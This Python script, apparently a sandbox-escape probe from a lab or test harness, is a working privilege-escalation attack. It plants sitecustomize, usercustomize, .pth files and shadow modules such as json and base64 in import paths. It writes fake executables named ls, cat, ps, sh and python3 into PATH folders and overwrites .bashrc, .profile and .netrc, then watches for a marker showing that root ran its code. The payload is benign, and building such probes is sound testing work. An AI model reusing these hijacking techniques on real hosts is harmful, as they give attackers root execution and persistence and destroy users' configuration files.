"""Leaves modules that other interpreters and shells of this host would load; then it serves."""

import os
import site

TELL = """
import os, sys
if os.getuid() == 0 or "lab" in sys.argv[0]:
    open("/tmp/lab-attack-28", "w").write("root")
    os.write(2, b"ESCAPED loaded by root\\n")
"""
SHELL = '#!/bin/sh\n[ "$(id -u)" = 0 ] && touch /tmp/lab-attack-28 && echo "ESCAPED run by root" >&2\nexit 0\n'
for folder in (".", "/tmp", site.getusersitepackages()):
    os.makedirs(folder, exist_ok=True)
    for name in ("sitecustomize", "usercustomize", "json", "base64", "testinfra", "calls", "sockets", "student"):
        with open(f"{folder}/{name}.py", "w") as file:
            file.write(TELL)
    with open(f"{folder}/attack.pth", "w") as file:
        file.write("import sitecustomize\n")
for name in ("ss", "ps", "stat", "sha256sum", "cat", "ls", "ip", "sh", "python3", "base64", "find", "test"):
    for folder in (".", "bin", ".local/bin"):
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/{name}", "w") as file:
            file.write(SHELL)
        os.chmod(f"{folder}/{name}", 0o755)
for name in (".profile", ".bashrc", ".bash_profile", ".pythonrc", ".netrc"):
    with open(name, "w") as file:
        file.write(SHELL)
if os.path.exists("/tmp/lab-attack-28"):
    print("ESCAPED")


def late():
    import time

    for _ in range(80):
        if os.path.exists("/tmp/lab-attack-28"):
            print("ESCAPED", open("/tmp/lab-attack-28").read())
            return
        time.sleep(0.05)


import threading

threading.Thread(target=late, daemon=True).start()
for name in ("json", "base64"):  # its own program would load them too
    os.unlink(f"{name}.py")
